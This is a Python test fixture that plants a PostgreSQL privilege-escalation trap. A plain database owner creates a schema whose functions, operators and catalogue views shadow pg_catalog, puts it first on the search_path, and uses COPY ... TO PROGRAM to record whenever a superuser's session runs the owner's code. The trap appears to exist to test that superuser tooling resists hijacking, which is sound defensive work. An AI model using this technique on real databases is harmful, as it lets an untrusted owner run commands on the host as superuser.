# Copyright: (c) 2026, The Lifeboat authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A database owner who wants to become superuser: hostile code wherever a superuser may run it."""

from __future__ import annotations

from contextlib import closing
from pathlib import Path
from typing import List

import psycopg2

from .postgres import Cluster

OWNER = "mallory"
DATABASE = "shop"

# What a superuser may, and in a transaction that only reads, and in a scratch cluster too: run a program on the host.
_STRIKE = """
CREATE SCHEMA trap;
GRANT USAGE ON SCHEMA trap TO PUBLIC;
CREATE FUNCTION trap.strike(place text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE step text;
BEGIN
  FOREACH step IN ARRAY '{SELECT 1,RESET ROLE,RESET SESSION AUTHORIZATION}'::pg_catalog.text[] LOOP
    BEGIN
      EXECUTE step;
      EXECUTE pg_catalog.format('COPY (SELECT %L) TO PROGRAM %L', place, 'cat >> "EVIDENCE"');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  RETURN true;
END $$;
"""

# One of each operator, function and catalogue that SQL about databases may name, before PostgreSQL's own.
_SHADOWS = """
DO $outer$
DECLARE one record;
BEGIN
  FOR one IN
    SELECT o.oprname, l.typname AS l, r.typname AS r, b.typname AS b FROM pg_operator o
      JOIN pg_type l ON l.oid = o.oprleft JOIN pg_type r ON r.oid = o.oprright JOIN pg_type b ON b.oid = o.oprresult
     WHERE l.typname IN ('name', 'text', 'oid', 'int4', 'int8', 'bool', 'char', 'pg_lsn', 'timestamptz')
       AND r.typname IN ('name', 'text', 'oid', 'int4', 'int8', 'bool', 'char', 'pg_lsn', 'timestamptz')
  LOOP
    EXECUTE format('CREATE FUNCTION trap.o(pg_catalog.%1$I, pg_catalog.%2$I) RETURNS pg_catalog.%3$I'
      ' LANGUAGE plpgsql AS %5$L;'
      ' CREATE OPERATOR trap.%4$s (LEFTARG = pg_catalog.%1$I, RIGHTARG = pg_catalog.%2$I, FUNCTION = trap.o);'
      ' ALTER FUNCTION trap.o RENAME TO %6$I', one.l, one.r, one.b, one.oprname,
      format('BEGIN PERFORM trap.strike(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END', one.oprname, one.oprname),
      'o' || md5(one.oprname || one.l || one.r));
  END LOOP;
  FOR one IN
    SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS result,
           (SELECT string_agg('$' || n, ', ') FROM generate_series(1, p.pronargs) n) AS given
      FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset
       AND p.proname IN ('current_database', 'pg_database_size', 'pg_relation_size', 'pg_get_userbyid', 'quote_ident',
         'pg_encoding_to_char', 'current_setting', 'to_regclass', 'to_regnamespace', 'pg_export_snapshot',
         'pg_is_in_recovery', 'clock_timestamp', 'pg_walfile_name',
         'pg_current_wal_lsn', 'pg_relation_filenode', 'pg_try_advisory_lock')
  LOOP
    EXECUTE format('CREATE FUNCTION trap.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
      one.proname, one.arguments, one.result,
      format('BEGIN PERFORM trap.strike(%L); RETURN pg_catalog.%I(%s); END', one.proname, one.proname, one.given));
  END LOOP;
  FOR one IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace
    AND relname IN ('pg_class', 'pg_namespace', 'pg_database', 'pg_extension', 'pg_shdepend', 'pg_db_role_setting',
                    'pg_settings', 'pg_roles', 'pg_available_extensions', 'pg_tablespace', 'pg_constraint',
                    'pg_trigger', 'pg_depend', 'pg_index', 'pg_collation', 'pg_stat_activity', 'pg_stat_archiver')
  LOOP
    EXECUTE format('CREATE VIEW trap.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE trap.strike(%1$L)', one.relname);
  END LOOP;
END $outer$;
CREATE FUNCTION trap.format(text, VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS $$
BEGIN PERFORM trap.strike('format'); RETURN pg_catalog.format($1, VARIADIC $2); END $$;
CREATE FUNCTION trap.format(text, name, name) RETURNS text LANGUAGE plpgsql AS $$
BEGIN PERFORM trap.strike('format'); RETURN pg_catalog.format($1, $2, $3); END $$;
"""


def plant(cluster: Cluster) -> None:
    """A database of a role that only owns it; its names come before PostgreSQL's."""
    cluster.execute(f"CREATE ROLE {OWNER} LOGIN", f"CREATE DATABASE {DATABASE} OWNER {OWNER}")
    act(cluster, _STRIKE.replace("EVIDENCE", str(_evidence(cluster))), _SHADOWS)
    act(cluster, f"ALTER DATABASE {DATABASE} SET search_path = trap, pg_catalog, public")


def act(cluster: Cluster, *statements: str) -> None:
    """Run as the owner, in a separate session, which affects nobody else."""
    place = {"host": str(cluster.socket_dir), "port": cluster.port, "user": OWNER, "dbname": DATABASE}
    with closing(psycopg2.connect(**place)) as connection, connection.cursor() as cursor:
        connection.autocommit = True
        for statement in ("SET search_path = pg_catalog, public", *statements):
            cursor.execute(statement)


def _evidence(cluster: Cluster) -> Path:
    return cluster.data_dir.with_name("evidence")


def gained(cluster: Cluster) -> List[str]:
    """Where the owner's code ran as a superuser, in this cluster and its copies; empty if it never did."""
    evidence = _evidence(cluster)
    return sorted(set(evidence.read_text().split("\n")) - {""}) if evidence.exists() else []
